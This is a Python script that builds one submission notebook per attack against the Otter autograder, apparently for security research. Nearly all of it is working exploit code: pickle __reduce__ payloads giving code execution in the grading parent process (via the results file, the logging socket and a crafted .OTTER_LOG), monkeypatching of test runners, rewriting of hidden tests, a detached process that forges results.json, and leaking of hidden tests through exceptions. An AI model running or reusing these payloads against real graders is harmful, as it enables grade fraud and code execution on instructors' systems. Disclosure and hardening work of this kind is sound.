"""Generate one submission notebook per attack from the UNTOUCHED student notebook.

Every submission keeps the student's `...` answers (answers nothing correctly); the attack is one
extra code cell inserted right after the init cell (students may add cells anywhere).
Run with the venv python from /tmp/otter_attacks:  venv/bin/python attacks/make_attacks.py
"""
import copy, os, pickle, zipfile
import nbformat as nbf

ROOT = os.environ.get("OTTER_ATTACKS_DIR", "/tmp/otter_attacks")
MARK = f"{ROOT}/markers"
STUDENT = f"{ROOT}/assignment/dist/student/tiny.ipynb"
OUT = f"{ROOT}/attacks"

# code that marks every test case in a GradingResults `r` as passed (runs in the PARENT)
FULL_MARKS = (
    "for _tf in r.results.values():\n"
    "    for _c in _tf.test_case_results: _c.passed = True\n"
)
# proof that code runs in the grading parent: pid + cmdline of the process that executes it
def proof(name):
    return (
        "import os\n"
        f"open('{MARK}/{name}', 'w').write('pid=%d ppid=%d cmdline=%s' % (os.getpid(), os.getppid(), "
        "open('/proc/self/cmdline').read().replace(chr(0), ' ')))\n"
    )

KERNEL_PID = lambda name: (
    f"import os as _os; open('{MARK}/{name}', 'w').write('kernel pid=%d ppid=%d' % (_os.getpid(), _os.getppid()))\n"
)

ATTACKS = {}

# 1a: monkeypatch otter's doctest runner inside the kernel (tests run in the same interpreter)
ATTACKS["1a_patch_run_doctest"] = """\
import otter.test_files.ok_test as _ok
_ok.run_doctest = lambda *a, **k: (True, "")
"""

# 1b: rewrite the (hidden) test files: they sit in ./tests of the kernel's cwd, writable, and are
#     (re)read by the export cell after student code has run
ATTACKS["1b_rewrite_test_files"] = """\
import glob
for _p in glob.glob("tests/*.py"):
    _g = {}; exec(open(_p).read(), _g); _t = _g["test"]
    for _c in _t["suites"][0]["cases"]: _c["code"] = ">>> pass\\n"
    open(_p, "w").write("OK_FORMAT = True\\ntest = %r\\n" % _t)
"""

# 2a: the export cell pickles GradingResults to a temp file that the PARENT then pickle.load()s
#     (otter/execute/__init__.py). Replace pickle.dump in the kernel so the file holds a
#     __reduce__ payload: code runs in the parent, marks all tests passed, returns the real object.
S2a = proof("2a_parent_rce.txt") + FULL_MARKS
ATTACKS["2a_results_pickle"] = KERNEL_PID("2a_kernel_pid.txt") + f"""\
import pickle
_dump = pickle.dump
class _P:
    def __init__(s, r): s.r = r
    def __reduce__(s): return (eval, ("exec(S) or r", {{"S": {S2a!r}, "r": s.r}}))
pickle.dump = lambda obj, f, *a, **k: _dump(_P(obj), f, *a, **k)
"""

# 2b: the parent runs a TCP logging server (otter/execute/logging.py) that pickle.loads whatever
#     arrives; the kernel is told host/port (otter.logging SocketHandler). Send a payload that
#     patches GradingResults.to_gradescope_dict in the parent.
S2b = proof("2b_parent_rce.txt") + """\
import otter.test_files as T
_o = T.GradingResults.to_gradescope_dict
def _f(self, *a, **k):
    for tf in self.results.values():
        for c in tf.test_case_results: c.passed = True
    return _o(self, *a, **k)
T.GradingResults.to_gradescope_dict = _f
"""
ATTACKS["2b_logging_socket_pickle"] = KERNEL_PID("2b_kernel_pid.txt") + f"""\
import pickle, socket, struct, logging.handlers as _LH
from otter import logging as _OL
_h = [h for h in _OL._handlers if isinstance(h, _LH.SocketHandler)][0]
class _P:
    def __reduce__(s): return (eval, ("exec(S) or {{'msg': 'x', 'name': 'x', 'levelno': 0}}", {{"S": {S2b!r}}}))
_d = pickle.dumps(_P())
_s = socket.create_connection((_h.host, _h.port)); _s.sendall(struct.pack(">L", len(_d)) + _d); _s.close()
import time; time.sleep(1.5)   # server thread polls with a 1 s select timeout
"""

# 3: detached process (new session, survives kernel shutdown) waits for the otter process to exit,
#    then rewrites results.json in otter's output dir (default ./ = $PWD of `otter run`).
ATTACKS["3_detached_rewriter"] = f"""\
import os, sys, subprocess
_code = r'''
import os, sys, time, json
ppid, out = int(sys.argv[1]), sys.argv[2]
while os.path.exists("/proc/%d" % ppid): time.sleep(0.05)
p = os.path.join(out, "results.json")
for _ in range(100):
    if os.path.exists(p): break
    time.sleep(0.05)
d = json.load(open(p))
for t in d["tests"]:
    if "max_score" in t: t["score"] = t["max_score"]; t["output"] = t["name"] + " results: All test cases passed!"
d.pop("score", None)
json.dump(d, open(p, "w"), indent=4)
open("{MARK}/3_detached.txt", "w").write("detached pid=%d rewrote %s at %.3f" % (os.getpid(), p, time.time()))
'''
subprocess.Popen([sys.executable, "-c", _code, str(os.getppid()), os.environ.get("PWD", ".")],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)
"""

# 4a: are hidden tests readable from the kernel's cwd? (also: what else is reachable, rlimits)
ATTACKS["4a_hidden_tests_readable"] = f"""\
import os, resource
with open("{MARK}/4a_hidden_tests.txt", "w") as _f:
    _f.write("cwd=%s\\nlistdir(.)=%s\\nlistdir(tests)=%s\\nlistdir(..)=%s\\nlistdir(../source)=%s\\n" % (
        os.getcwd(), sorted(os.listdir(".")), sorted(os.listdir("tests")), sorted(os.listdir("..")),
        sorted(os.listdir("../source"))))
    _f.write("--- tests/q1.py ---\\n" + open("tests/q1.py").read())
    _f.write("--- rlimits (soft,hard; -1=unlimited) ---\\n")
    for _n in ["RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"]:
        _f.write("%s=%s\\n" % (_n, resource.getrlimit(getattr(resource, _n))))
    _f.write("uid=%d\\n" % os.getuid())
"""

# 4b: the student's ANSWER cells raise (no extra cell). Does hidden-test source reach the VISIBLE
#     ("Public Tests") feedback?  plain: an ordinary exception.  exfil: the exception message
#     carries the hidden test file read from ./tests (see 4a), so it is printed by the PUBLIC test.
ANSWERS = {}
ANSWERS["4b_exception_plain"] = [
    "def square(x):\n    raise ValueError('not implemented')",
    "def fib(n):\n    raise ValueError('not implemented')",
]
ANSWERS["4b_exception_exfil"] = [
    "def square(x):\n    raise RuntimeError(open('tests/q1.py').read())",
    "def fib(n):\n    raise RuntimeError(open('tests/q2.py').read())",
]

# 4c: infinite loop -> does otter run have any timeout?
ATTACKS["4c_infinite_loop"] = KERNEL_PID("4c_kernel_pid.txt") + "while True: pass\n"


def main():
    os.makedirs(MARK, exist_ok=True)
    base = nbf.read(STUDENT, as_version=4)
    for name, src in ATTACKS.items():
        nb = copy.deepcopy(base)
        nb.cells.insert(1, nbf.v4.new_code_cell(src))
        nbf.write(nb, f"{OUT}/{name}.ipynb")
    for name, answers in ANSWERS.items():
        nb = copy.deepcopy(base)
        cells = [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])]
        assert len(cells) == len(answers)
        for c, a in zip(cells, answers):
            c.source = a
        nbf.write(nb, f"{OUT}/{name}.ipynb")

    # 2c: submission ZIP = untouched student notebook + a crafted .OTTER_LOG. The parent
    #     dill.load()s it (otter/check/logs.py) BEFORE executing the notebook, even though
    #     grade_from_log is off. Payload wraps grade_notebook to mark everything passed and then
    #     raises EOFError so the log reader stops quietly.
    S2c = proof("2c_parent_rce.txt") + """\
import otter.run.run_autograder.runners.python_runner as PR
_o = PR.grade_notebook
def _g(*a, **k):
    r = _o(*a, **k)
    for tf in r.results.values():
        for c in tf.test_case_results: c.passed = True
    return r
PR.grade_notebook = _g
"""
    class _P:
        def __reduce__(self):
            return (eval, ("exec(S) or (_ for _ in ()).throw(EOFError())", {"S": S2c}))
    with zipfile.ZipFile(f"{OUT}/2c_otter_log_zip.zip", "w") as z:
        z.write(STUDENT, "tiny.ipynb")
        z.writestr(".OTTER_LOG", pickle.dumps(_P()))
    print("generated:", sorted(os.listdir(OUT)))

if __name__ == "__main__":
    main()
